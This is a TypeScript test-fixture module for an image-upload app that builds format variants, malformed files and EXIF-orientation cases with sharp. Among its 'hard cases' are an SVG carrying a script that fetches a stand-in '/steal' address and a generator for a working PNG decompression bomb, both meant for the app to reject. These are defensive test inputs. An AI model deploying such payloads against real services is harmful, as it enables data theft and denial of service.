// Builds test images in every format the app accepts (and some it must refuse) from a fixture
// face, so format coverage needs no extra committed files.
import sharp from 'sharp';
import { readFileSync } from 'node:fs';

export interface NamedFile {
  name: string;
  buffer: Buffer;
  mimeType: string;
}

/** A 24-bit BMP (sharp cannot write BMP). */
export function bmp(rgb: Buffer, width: number, height: number): Buffer {
  const row = Math.ceil((width * 3) / 4) * 4;
  const size = 54 + row * height;
  const b = Buffer.alloc(size);
  b.write('BM', 0, 'ascii');
  b.writeUInt32LE(size, 2);
  b.writeUInt32LE(54, 10);
  b.writeUInt32LE(40, 14);
  b.writeInt32LE(width, 18);
  b.writeInt32LE(height, 22); // bottom-up rows
  b.writeUInt16LE(1, 26);
  b.writeUInt16LE(24, 28);
  b.writeUInt32LE(row * height, 34);
  for (let y = 0; y < height; y++)
    for (let x = 0; x < width; x++) {
      const s = (y * width + x) * 3;
      const d = 54 + (height - 1 - y) * row + x * 3;
      b[d] = rgb[s + 2];
      b[d + 1] = rgb[s + 1];
      b[d + 2] = rgb[s];
    }
  return b;
}

/** The same face as JPEG, PNG, WebP, GIF, BMP and AVIF, and a 128x96 JPEG stored sideways with EXIF orientation 6. */
export async function formatVariants(source: string): Promise<NamedFile[]> {
  const base = sharp(source).removeAlpha();
  const { data, info } = await base.clone().raw().toBuffer({ resolveWithObject: true });
  return [
    { name: 'face.webp', buffer: await base.clone().webp({ quality: 95 }).toBuffer(), mimeType: 'image/webp' },
    { name: 'face.gif', buffer: await base.clone().gif().toBuffer(), mimeType: 'image/gif' },
    { name: 'face.avif', buffer: await base.clone().avif({ quality: 80 }).toBuffer(), mimeType: 'image/avif' },
    { name: 'face.bmp', buffer: bmp(data, info.width, info.height), mimeType: 'image/bmp' },
    {
      name: 'sideways-exif6.jpg',
      // Stored 128 wide x 96 high; orientation 6 means "rotate 90° clockwise to display": 96 x 128.
      buffer: await sharp(source).resize(128, 96, { fit: 'fill' }).jpeg({ quality: 92 }).withMetadata({ orientation: 6 }).toBuffer(),
      mimeType: 'image/jpeg',
    },
  ];
}

export function badFiles(): NamedFile[] {
  const random = Buffer.alloc(4096);
  for (let i = 0; i < random.length; i++) random[i] = (i * 7919 + 13) % 251;
  return [
    { name: 'empty.jpg', buffer: Buffer.alloc(0), mimeType: 'image/jpeg' },
    { name: 'notes.txt', buffer: Buffer.from('These are notes, not a photo.\n'.repeat(20)), mimeType: 'text/plain' },
    { name: 'scan.pdf', buffer: Buffer.from('%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n'), mimeType: 'application/pdf' },
    {
      name: 'phone.heic',
      buffer: Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic'), Buffer.alloc(64)]),
      mimeType: 'image/heic',
    },
    { name: 'noise.jpg', buffer: random, mimeType: 'image/jpeg' },
  ];
}

/** A real decompression bomb: a valid 20000x20000 greyscale PNG of zeros (~400 MB of pixels, ~0.4 MB on disk). */
export async function pngBomb(side = 20000): Promise<Buffer> {
  const { deflateSync, crc32 } = await import('node:zlib');
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(td));
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc(side * (side + 1)); // filter byte 0 + zero pixels per row
  const idat = deflateSync(raw, { level: 9 });
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]);
}

/** The hard cases of issue 5, each with what the app must say about it (a pattern), or null if it must be analysed. */
export async function hardCases(face: string, jpegFace: string): Promise<(NamedFile & { expect: RegExp | null })[]> {
  const jpg = readFileSync(jpegFace);
  const rgb = sharp(face).removeAlpha();
  const frame2 = await rgb.clone().negate().png().toBuffer();
  // The top quarter cut out to full transparency: a face sticker.
  const { width = 0, height = 0 } = await sharp(face).metadata();
  const transparent = await sharp(face)
    .ensureAlpha()
    .composite([{ input: { create: { width, height: Math.round(height / 4), channels: 4, background: { r: 0, g: 0, b: 0, alpha: 1 } } }, blend: 'dest-out', top: 0, left: 0 }])
    .png()
    .toBuffer();
  return [
    { name: 'zero.jpg', buffer: Buffer.alloc(0), mimeType: 'image/jpeg', expect: /empty/i },
    { name: 'truncated.jpg', buffer: jpg.subarray(0, Math.floor(jpg.length * 0.6)), mimeType: 'image/jpeg', expect: /truncated/i },
    ...badFiles().filter((f) => f.name === 'noise.jpg' || f.name === 'notes.txt' || f.name === 'scan.pdf').map((f) => ({ ...f, expect: { 'noise.jpg': /not a supported image/i, 'notes.txt': /text file/i, 'scan.pdf': /PDF/ }[f.name]! })),
    {
      name: 'drawing.svg',
      buffer: Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>fetch("http://203.0.113.9/steal")</script><rect width="64" height="64"/></svg>',
      ),
      mimeType: 'image/svg+xml',
      expect: /SVG/,
    },
    { name: 'bomb.png', buffer: await pngBomb(), mimeType: 'image/png', expect: /20000×20000.*megapixels/ },
    { name: 'phone.heic', buffer: Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic'), Buffer.alloc(64)]), mimeType: 'image/heic', expect: /HEIC/ },
    {
      name: 'animated.gif',
      buffer: await sharp([await rgb.clone().png().toBuffer(), frame2], { join: { animated: true } }).gif({ delay: [200, 200], loop: 0 }).toBuffer(),
      mimeType: 'image/gif',
      expect: null,
    },
    { name: 'cmyk.jpg', buffer: await rgb.clone().toColourspace('cmyk').jpeg({ quality: 92 }).toBuffer(), mimeType: 'image/jpeg', expect: null },
    { name: 'deep-16bit.png', buffer: await rgb.clone().toColourspace('rgb16').png().toBuffer(), mimeType: 'image/png', expect: null },
    { name: 'transparent.png', buffer: transparent, mimeType: 'image/png', expect: null },
  ];
}

/**
 * The same upright picture stored under each EXIF orientation 1-8: the pixels are stored transformed
 * so that a viewer honouring the tag shows the upright picture. libvips (sharp) is the judge of
 * which stored transform each tag needs.
 */
export async function exifOrientations(face: string): Promise<NamedFile[]> {
  const upright = sharp(face).removeAlpha().resize(160, 120, { fit: 'fill' });
  const { data: want } = await upright.clone().raw().toBuffer({ resolveWithObject: true });
  const transforms: ((s: sharp.Sharp) => sharp.Sharp)[] = [
    (s) => s,
    (s) => s.flop(),
    (s) => s.rotate(180),
    (s) => s.flip(),
    (s) => s.rotate(90).flop(),
    (s) => s.rotate(270),
    (s) => s.rotate(270).flop(),
    (s) => s.rotate(90),
  ];
  const base = await upright.clone().png().toBuffer();
  const out: NamedFile[] = [];
  for (let orientation = 1; orientation <= 8; orientation++) {
    let found: Buffer | null = null;
    for (const t of transforms) {
      const stored = await t(sharp(base)).jpeg({ quality: 95 }).withMetadata({ orientation }).toBuffer();
      const { data, info } = await sharp(stored).rotate().raw().toBuffer({ resolveWithObject: true });
      if (info.width !== 160 || info.height !== 120) continue;
      let diff = 0;
      for (let i = 0; i < data.length; i++) diff += Math.abs(data[i] - want[i]);
      if (diff / data.length < 4) {
        found = stored;
        break;
      }
    }
    if (!found) throw new Error(`no stored transform reproduces orientation ${orientation}`);
    out.push({ name: `orientation-${orientation}.jpg`, buffer: found, mimeType: 'image/jpeg' });
  }
  return out;
}
